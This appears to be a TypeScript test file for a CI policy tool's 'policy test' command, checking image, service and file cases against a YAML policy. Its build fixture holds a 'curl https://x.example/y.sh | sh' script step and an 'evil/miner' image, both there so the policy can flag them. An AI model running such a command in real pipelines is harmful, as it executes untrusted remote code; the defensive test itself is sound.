import { describe, expect, it } from 'vitest';
import { workspace } from './workspace.ts';

const POLICY = `rules: {image-not-allowed: {level: error, allow: [registry.example.org/**]}, service-not-allowed: warning}
groups:
  strict/**:
    rules: {service-not-allowed: {level: error, allow: ["postgres:*"]}}
`;

const BUILD = `build:
  image: evil/miner:1
  script: [make]
test:
  image: registry.example.org/a:1
  script: ["curl https://x.example/y.sh | sh"]
`;

describe('policy test', () => {
  it('says of each case whether it is as expected', async () => {
    const cases = `- {image: "registry.example.org/a:1", project: any/app, expect: allowed}
- {image: "evil:1", project: any/app, expect: refused}
- {service: "mysql:8", project: strict/app, expect: refused}
- {service: "mysql:8", project: any/app, expect: allowed}
- {file: ci/build.yml, project: any/app, expect: [image-not-allowed 2, script-from-network]}
`;
    const space = workspace({ 'policy.yml': POLICY, 'cases.yml': cases, 'ci/build.yml': BUILD });
    const { code, out } = await space.run(['policy', 'test', 'cases.yml', '--policy', 'policy.yml']);
    expect(out.split('\n').map((line) => line.slice(0, 4))).toEqual([
      'ok  ',
      'ok  ',
      'ok  ',
      'ok  ',
      'ok  ',
      '5 of',
      '',
    ]);
    expect(out).toContain('cases.yml:3 service mysql:8 in strict/app: refused');
    expect(code).toBe(0);
  });

  it('names what is not as expected, and fails', async () => {
    const cases = `- {image: "evil:1", project: any/app, expect: allowed}
- {file: ci/build.yml, project: any/app, expect: [image-not-allowed 3, docker-in-docker]}
`;
    const space = workspace({ 'policy.yml': POLICY, 'cases.yml': cases, 'ci/build.yml': BUILD });
    const { code, out } = await space.run(['policy', 'test', 'cases.yml', '--policy', 'policy.yml']);
    expect(code).toBe(1);
    expect(out).toContain(
      'FAIL cases.yml:1 image evil:1 in any/app: allowed\n     it is refused, and expected to be allowed\n',
    );
    for (const fault of [
      'it has no image-not-allowed 3',
      'it has no docker-in-docker',
      'not expected: image-not-allowed 2',
    ]) {
      expect(out).toContain(`     ${fault}`);
    }
    expect(out).toContain('0 of 2 cases as expected, by policy.yml');
  });

  it.each([
    ['a: 1', 'cases.yml:1:1 must be a list of cases'],
    ['- {picture: x}', 'cases.yml:1:3 a case needs `image`, `service` or `file`'],
    ['- {image: x, project: a/b, expect: maybe}', '`expect` must be `allowed`, `warned` or `refused`, not `maybe`'],
    ['- {image: x, expect: allowed}', '`project` is missing'],
    ['- {file: x.yml, project: a/b, expect: [no-such-rule]}', 'there is no rule `no-such-rule`'],
    ['- {file: x.yml, project: a/b, expect: ["Not A Rule"]}', 'must be a rule, or a rule and a line'],
    ['- {file: gone.yml, project: a/b, expect: []}', 'there is no file'],
  ])('%j is refused', async (cases, fault) => {
    const { code, err } = await workspace({ 'cases.yml': cases }).run(['policy', 'test', 'cases.yml']);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining(fault) });
  });
});
